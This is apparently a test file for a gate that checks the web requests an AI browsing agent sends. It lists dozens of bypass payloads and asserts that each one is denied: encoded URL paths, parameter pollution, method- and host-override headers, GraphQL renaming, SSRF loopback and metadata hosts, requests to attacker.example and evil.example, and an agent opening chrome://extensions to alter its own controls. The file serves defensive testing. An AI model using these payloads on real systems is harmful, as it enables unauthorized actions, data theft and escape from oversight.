/**
 * Every hole that research/cellmate.md found in ceLLMate's published enforcement, and those of research/mediation.md that concern what a request is
 * taken for. Each row begins with words of its source and holds attacks that must all be denied, or names the test that tries them where it
 * takes a browser, a proxy or a document; that test must be there. No sentence of the source may be without a row.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { allowing, entry, request, site } from '../../bench/send-data.ts';
import type { UnlistedRule } from '../../src/model/policy/policy.ts';
import type { SelectedPolicy } from '../../src/model/policy/sitemap.ts';
import type { WebRequest } from '../../src/model/traffic/request.ts';
import { createSendGate } from '../../src/send/gate.ts';
import { CELLMATE, MEDIATION } from './findings.ts';

const SITE = 'https://gitlab.com';
const API = `${SITE}/api/graphql`;
const HOOK = `${SITE}/g/p/-/hooks/7`;
const TOKENS = `${SITE}/-/user_settings/personal_access_tokens`;
const ORDER = `${SITE}/order`;
const FORM = 'application/x-www-form-urlencoded';
const JSON_TYPE = 'application/json';

const amount = (part: 'body' | 'query', name: string) =>
  ({ totalAmount: { type: 'number', source: { type: 'request', part, name } } }) as const;
const SITEMAP = [
  entry('Create token', 'POST', `${TOKENS}*`),
  entry('View tokens', 'GET', TOKENS),
  entry('Add hook', 'POST', `${SITE}/{group}/{project}/-/hooks`),
  entry('Edit hook', 'POST', `${SITE}/{group}/{project}/-/hooks/{id}`, { body: { _method: 'patch' } }),
  entry('Delete hook', 'POST', `${SITE}/{group}/{project}/-/hooks/{id}`, { body: { _method: 'delete' } }),
  entry('New issue', 'POST', API, { body: { operationName: 'createIssue' }, tags: ['create'] }),
  entry('Comment', 'POST', API, { body: { operationName: 'createNote' }, tags: ['create'] }),
  entry('Delete issue', 'POST', API, { body: { operationName: 'deleteWorkItem' }, tags: ['delete'] }),
  entry('Order', 'POST', ORDER, { args: amount('body', 'cart.total') }),
  entry('Order by address', 'POST', `${SITE}/order-now`, { args: amount('query', 'total') }),
];
const UP_TO_50: SelectedPolicy = {
  policy: {
    name: 'order_leq',
    effect: 'condition',
    actions: ['Order', 'Order by address'],
    description: 'Order for at most 50',
    condition: {
      name: 'allowPurchaseIfAmountLeq',
      parameters: { maxAmount: { type: 'number', description: '' } },
      args: ['totalAmount'],
    },
  },
  params: { maxAmount: 50 },
};

function gate(unlisted: UnlistedRule) {
  const external = [{ url: 'https://assets.example/static/*' }, { url: '*.avatars.example' }];
  return createSendGate({
    sites: [
      {
        site: site('gitlab.com', SITEMAP, { unlisted, external, graphql: 'by-name' }),
        selected: [allowing(['Comment', 'Add hook', 'Edit hook']), UP_TO_50],
      },
    ],
    scopeDomains: ['gitlab.com'],
    limits: [],
    allowPrivateNetworks: false,
  });
}

function raw(url: string, type: string, text: string, headers: Readonly<Record<string, string>> = {}): WebRequest {
  const bytes = new TextEncoder().encode(text);
  return { method: 'POST', url, headers: { 'content-type': type, ...headers }, body: { kind: 'bytes', bytes } };
}

const RIGHT = 'mutation createNote { createNote(input: {}) { id } }';
const WRONG = 'mutation x { workItemDelete { id } }';
const graphql = (members: object, url = API) => raw(url, JSON_TYPE, JSON.stringify(members));
const part = (head: string, content: string) => `--b\r\nContent-Disposition: form-data; ${head}\r\n\r\n${content}\r\n`;
const multipart = (url: string, ...parts: readonly string[]) =>
  raw(url, 'multipart/form-data; boundary=b', `${parts.join('')}--b--\r\n`);

/** Denied where only what is listed or reads may pass; those in `always` even where the site lets everything unlisted pass. */
interface Hole {
  /** Words of the source. */
  readonly source: (typeof CELLMATE | typeof MEDIATION)[number];
  readonly always?: Readonly<Record<string, WebRequest>>;
  readonly otherwise?: Readonly<Record<string, WebRequest>>;
  /** Tests elsewhere: file, and words of the test's name. */
  readonly tests?: readonly (readonly [string, string])[];
}

const post = (path: string) => request('POST', SITE + path);

const HOLES: readonly Hole[] = [
  {
    source: 'URL forms that went through with cookies',
    always: Object.fromEntries(
      [
        '/-/user_settings/personal_access_tokens?x=1',
        '/-/user_settings/personal_access_tokens/',
        '/-/user_settings/personal_access_tokens#x',
        '//-/user_settings/personal_access_tokens',
        '/%2D/user_settings/personal_access_tokens',
        '/;/-/user_settings/personal_access_tokens',
        '/-/x/..;/user_settings/personal_access_tokens',
        '/-/user_settings%c0%afpersonal_access_tokens',
        '/-/user_settings%EF%BC%8Fpersonal_access_tokens',
        '/-/user_settings/personal_access_to%E2%84%AAens',
        '/-/u%C5%BFer_settings/personal_access_tokens',
      ].map((path) => [path, post(path)]),
    ),
    otherwise: { 'a nested group': post('/g/sub/p/-/hooks'), 'another case': post('/g/p/-/HOOKS') },
    tests: [['src/send/holes.test.ts', 'stays "Create token", whatever is unlisted passes']],
  },
  {
    source: 'Bodies: renamed operationName',
    always: {
      batched: raw(
        API,
        JSON_TYPE,
        JSON.stringify([
          { operationName: 'createNote', query: RIGHT },
          { query: WRONG.replace('x', 'deleteWorkItem') },
        ]),
      ),
      'two operations, one chosen': graphql({
        operationName: 'createNote',
        query: `${RIGHT} ${WRONG.replace('x', 'deleteWorkItem')}`,
      }),
      'in capitals': raw(HOOK, FORM, '_method=DELETE'),
      'a real DELETE': request('DELETE', HOOK),
      'a method in a list': raw(HOOK, FORM, '_method=patch&_method[]=delete'),
      'a method behind a space': raw(HOOK, FORM, '_method=patch&+_method=delete'),
      'a method before a NUL': raw(HOOK, FORM, '_method=patch&_method%00=delete'),
      'a method as PHP spells it': raw(HOOK, FORM, '_method=patch&.method=delete'),
      'a method behind a semicolon': raw(HOOK, FORM, '_method=patch&a=1;_method=delete'),
      'a method in the query': raw(`${HOOK}?_method=delete`, JSON_TYPE, '{"_method":"patch"}'),
      'a method in the query, in a list': raw(`${HOOK}?_method[]=delete`, FORM, '_method=patch'),
      'a method as text/plain JSON': raw(HOOK, 'text/plain', '{"_method":"delete"}'),
      'a method in a form that is JSON': raw(HOOK, FORM, '{"_method":"delete"}'),
      'twice in one object, by case': graphql({ operationName: 'createNote', query: RIGHT, Query: WRONG }),
      'another operationName, by case': graphql({ operationName: 'createNote', OperationName: 'x', query: RIGHT }),
      'twice in a form': raw(API, FORM, `query=${encodeURIComponent(RIGHT)}&query[]=${encodeURIComponent(WRONG)}`),
      'in an upload and beside it': multipart(
        API,
        part('name="operations"', JSON.stringify({ operationName: 'createNote', query: RIGHT })),
        part('name="query"', WRONG),
      ),
      'in UTF-16': raw(API, `${JSON_TYPE}; charset=utf-16`, JSON.stringify({ query: WRONG })),
      'of two types': raw(HOOK, `${FORM}, ${JSON_TYPE}`, '_method=patch'),
      'with two boundaries': raw(
        HOOK,
        'multipart/form-data; boundary=b; boundary*=c',
        `${part('name="_method"', 'patch')}--b--\r\n`,
      ),
      'with a delimiter after a bare line feed': multipart(
        HOOK,
        part('name="a"', 'x\n--b\nContent-Disposition: form-data; name="_method"\n\ndelete'),
        part('name="_method"', 'patch'),
      ),
      'a File, a Blob, a stream': { ...request('POST', API), body: { kind: 'unreadable', why: 'it is a stream' } },
    },
    otherwise: {
      renamed: graphql({ operationName: 'createNote', query: WRONG }),
      aliased: graphql({
        operationName: 'createNote',
        query: 'mutation createNote { createNote: workItemDelete { id } }',
      }),
      'the REST twin of a web route': post('/api/v4/projects/1/hooks'),
      'a stored operation beside the text': graphql({
        operationName: 'createNote',
        query: RIGHT,
        id: 'deleteWorkItem',
      }),
      'a stored operation in the query': graphql({ operationName: 'createNote', query: RIGHT }, `${API}?doc_id=7`),
      'a stored operation alone': graphql({
        operationName: 'createNote',
        extensions: { persistedQuery: { sha256Hash: 'x' } },
      }),
    },
    tests: [
      ['src/send/holes.test.ts', 'is refused where it matters'],
      ['src/send/holes.test.ts', 'root fields are what an entry says they are, where it says so'],
      ['src/egress/hostile.test.ts', 'is never judged nor sent'],
      ['src/egress/browser.test.ts', 'uploads 30 MB'],
    ],
  },
  {
    source: '`wss://attacker…` skipped both domain gates',
    always: {
      'wss elsewhere': { ...request('GET', 'wss://attacker.example/'), type: 'websocket' },
      'ws elsewhere': { ...request('GET', 'ws://attacker.example/'), type: 'websocket' },
      'a POST to a host for pictures': request('POST', 'https://x.avatars.example/a.png'),
      'another path of it': request('GET', 'https://assets.example/collect?secret=1'),
      'a path that leaves what is allowed': request('GET', 'https://assets.example/static/..%2fcollect?secret=1'),
      'a WebSocket to it': { ...request('GET', 'wss://assets.example/static/a'), type: 'websocket' },
      'another method by header': {
        ...request('GET', 'https://assets.example/static/a'),
        headers: { 'x-http-method-override': 'POST' },
      },
    },
    tests: [
      ['src/send/holes.test.ts', 'external rules hold by method, path and type together'],
      ['test/websocket.test.ts', 'judges messages as the proxy does'],
    ],
  },
  {
    source: '`getTags` ignores bodies',
    otherwise: {
      'an issue, where only comments were granted': graphql({
        operationName: 'createIssue',
        query: 'mutation createIssue { createIssue { id } }',
      }),
      'an issue under the name of a comment': graphql({
        operationName: 'createNote',
        query: 'mutation createNote { createIssue { id } createNote { id } }',
      }),
    },
    tests: [['src/policy/sites/tag-rules.test.ts', 'mean what they say']],
  },
  {
    source: 'Arguments: the first selector match can be shadowed',
    always: {
      'a total in another case': raw(ORDER, JSON_TYPE, '{"cart":{"total":20,"Total":999}}'),
      'a total in another object': raw(ORDER, JSON_TYPE, '{"cart":{"total":20},"Cart":{"total":999}}'),
      'a total under a dotted name': raw(ORDER, JSON_TYPE, '{"cart":{"total":20},"cart.total":999}'),
      'a total that is no number': raw(ORDER, JSON_TYPE, '{"cart":{"total":1e400}}'),
      'a total below nothing': raw(ORDER, JSON_TYPE, '{"cart":{"total":-1e400}}'),
      'a total in another notation': raw(ORDER, JSON_TYPE, '{"cart":{"total":"0x10"}}'),
      'a total in other digits': raw(ORDER, JSON_TYPE, '{"cart":{"total":"４９"}}'),
      'a list of totals': raw(ORDER, JSON_TYPE, '{"cart":{"total":[20]}}'),
      'a total and a list of them': raw(ORDER, FORM, 'cart[total]=20&cart[total][0]=999'),
      'a form’s total in another case': raw(ORDER, FORM, 'cart[total]=20&CART[total]=999'),
      'a form’s total in another notation': raw(ORDER, FORM, 'cart[total]=20&cart.total=999'),
      'a form’s total behind a space': raw(ORDER, FORM, 'cart[total]=20&cart[total]+=999'),
      'a form’s total before a NUL': raw(ORDER, FORM, 'cart[total]=20&cart[total]%00=999'),
      'a form’s total behind a semicolon': raw(ORDER, FORM, 'x=1;cart[total]=999&cart[total]=20'),
      'a form’s total as JSON besides': raw(ORDER, FORM, 'cart[total]=20&cart={"total":999}'),
      'another total in the query': raw(`${ORDER}?cart[total]=999`, FORM, 'cart[total]=20'),
      'another total in the query of JSON': raw(`${ORDER}?cart.total=999`, JSON_TYPE, '{"cart":{"total":20}}'),
      'a file by that name': multipart(
        ORDER,
        part('name="cart[total]"', '20'),
        part('name="cart[total]"; filename="x"', '9'),
      ),
      'a name without quotes': multipart(ORDER, part('name="cart[total]"', '20'), part('name=cart[total]', '999')),
      'a query’s total in another case': raw(`${SITE}/order-now?total=20&Total=999`, FORM, 'a=1'),
      'a query’s list of totals': raw(`${SITE}/order-now?total=20&total[]=999`, FORM, 'a=1'),
      'a query’s total behind a semicolon': raw(`${SITE}/order-now?total=20&a=1;total=999`, FORM, 'a=1'),
      'a query’s total, encoded': raw(`${SITE}/order-now?total=20&%74otal=999`, FORM, 'a=1'),
      'another total in the body': raw(`${SITE}/order-now?total=20`, FORM, 'total=999'),
      'a body that nobody can read': {
        ...raw(`${SITE}/order-now?total=20`, FORM, ''),
        body: { kind: 'unreadable', why: 'it is a stream' },
      },
      'a compressed total that does not inflate': raw(ORDER, JSON_TYPE, '{"cart":{"total":20}}', {
        'content-encoding': 'gzip',
      }),
    },
    tests: [
      ['test/arguments.test.ts', 'a second total in a frame of the same origin'],
      ['test/arguments.test.ts', 'an element that was replaced is found anew'],
      ['test/arguments.test.ts', 'a tab that was left does not speak'],
      ['test/answers.test.ts', 'that of its own page, not of another tab'],
      ['src/sites/lint/lint.test.ts', 'selector'],
      ['src/send/values/amount.test.ts', 'never as another currency'],
      [
        'src/session/state/argument-cache.test.ts',
        'a value that was not confirmed since the moment asked for is stale',
      ],
    ],
  },
  {
    source: 'Self-modification: an agent can open the extension',
    always: { 'a page of the browser': request('GET', 'chrome://extensions/') },
    tests: [
      ['src/act/gate.test.ts', "'chrome://settings', 'act.floor.scheme'"],
      ['test/gateway/attacks.test.ts', 'never navigates to a refused scheme'],
    ],
  },
  {
    source: 'Redirects are re-checked',
    always: {
      'a frame elsewhere, in a page of the site': {
        ...request('POST', 'https://evil.example/collect'),
        page: `${SITE}/`,
        initiator: 'https://evil.example',
      },
      'the site in a page elsewhere': { ...request('POST', TOKENS), page: 'https://evil.example/' },
      'another method by a header': { ...request('POST', HOOK), headers: { 'x-http-method-override': 'DELETE' } },
      ...Object.fromEntries(
        ['_method=', 'method=', 'httpMethod=', '$method=', 'http_method=', 'methodOverride=', 'override='].map(
          (name) => [`another method by ?${name}`, request('POST', `${HOOK}?${name}delete`)],
        ),
      ),
      'two methods by a header': {
        ...raw(HOOK, FORM, '_method=patch'),
        headers: { 'content-type': FORM, 'x-http-method-override': 'PATCH, DELETE' },
      },
      ...Object.fromEntries(
        [
          'x-original-url',
          'x-rewrite-url',
          'x-override-url',
          'x-forwarded-host',
          'x-forwarded-server',
          'x-http-host-override',
          'x-original-host',
        ].map((name) => [
          `another address by ${name}`,
          { ...request('POST', `${SITE}/g/p/-/hooks`), headers: { [name]: '/-/user_settings/personal_access_tokens' } },
        ]),
      ),
    },
    tests: [
      ['src/egress/egress.test.ts', 'is one after a redirect that was allowed'],
      ['src/egress/stranger.test.ts', 'reaches the server without them, and brings no cookies home'],
      ['src/send/public.test.ts', 'a URL that carries a credential is not public'],
    ],
  },
  {
    source: 'Precedence of allow/deny/condition undefined',
    tests: [
      ['src/send/grants.test.ts', 'an explicit deny beats all'],
      ['src/sites/lint/lint.test.ts', 'error order b'],
      ['src/send/conditions/sandbox.test.ts', 'may not fill the memory'],
    ],
  },
];

const FROM_MEDIATION: readonly Hole[] = [
  {
    source: 'Chromium canonicalises 0x7f.1, 2130706433 and full-width digits',
    always: Object.fromEntries(
      [
        ...['0x7f.1', '2130706433', '１２７.0.0.1', '127.1', '0177.0.0.1', 'localhost', 'localhost.', 'a.localhost'],
        ...['[::1]', '[::ffff:7f00:1]', '[::ffff:127.0.0.1]', '169.254.169.254', '0.0.0.0', '10.0.0.1', '[fe80::1]'],
      ].map((host) => [host, request('GET', `http://${host}/`)]),
    ),
    tests: [['src/egress/hostile.test.ts', 'are refused behind a name']],
  },
  {
    source: 'One approval is not one send',
    tests: [['src/egress/hostile.test.ts', 'a POST on a connection that the server resets is not repeated']],
  },
  {
    source: '`postData` is lossy for binary',
    always: {
      'a body that is no text': {
        ...raw(API, JSON_TYPE, ''),
        body: { kind: 'bytes', bytes: Uint8Array.of(0x7b, 0xff, 0x7d) },
      },
    },
  },
];

describe.each([...HOLES, ...FROM_MEDIATION])('$source', ({ always = {}, otherwise = {}, tests = [] }) => {
  it.each(Object.entries(always))('%s', (_, attack) => {
    const verdicts = (['deny-unsafe', 'allow'] as const).map((unlisted) => gate(unlisted).decide(attack, {}).outcome);
    expect(verdicts).toEqual(['deny', 'deny']);
  });

  it.each(Object.entries(otherwise))('%s', (_, attack) => {
    expect(gate('deny-unsafe').decide(attack, {}).outcome).toBe('deny');
  });

  it.each(tests)('is tried in %s: %s', (file, name) => {
    expect(readFileSync(new URL(`../../${file}`, import.meta.url), 'utf8')).toContain(name);
  });
});

it('what was granted passes, so that a denial says something', () => {
  const granted: readonly WebRequest[] = [
    post('/g/p/-/hooks'),
    raw(HOOK, FORM, '_method=patch&url=x'),
    multipart(HOOK, part('name="_method"', 'patch'), part('name="note"', 'a -- b')),
    graphql({ operationName: 'createNote', query: RIGHT }),
    raw(ORDER, JSON_TYPE, '{"cart":{"total":20}}'),
    raw(ORDER, FORM, 'cart[total]=20'),
    raw(`${ORDER}?from=cart`, FORM, 'cart[total]=20&note=total'),
    raw(`${SITE}/order-now?total=20`, FORM, 'a=1'),
    request('GET', 'https://assets.example/static/a.js?v=1'),
  ];
  const refused = granted.filter((each) => gate('deny').decide(each, {}).outcome !== 'allow');
  expect(refused).toEqual([]);
});

it('every finding has its row', () => {
  expect(new Set([...HOLES, ...FROM_MEDIATION].map(({ source }) => source))).toEqual(
    new Set([...CELLMATE, ...MEDIATION]),
  );
});
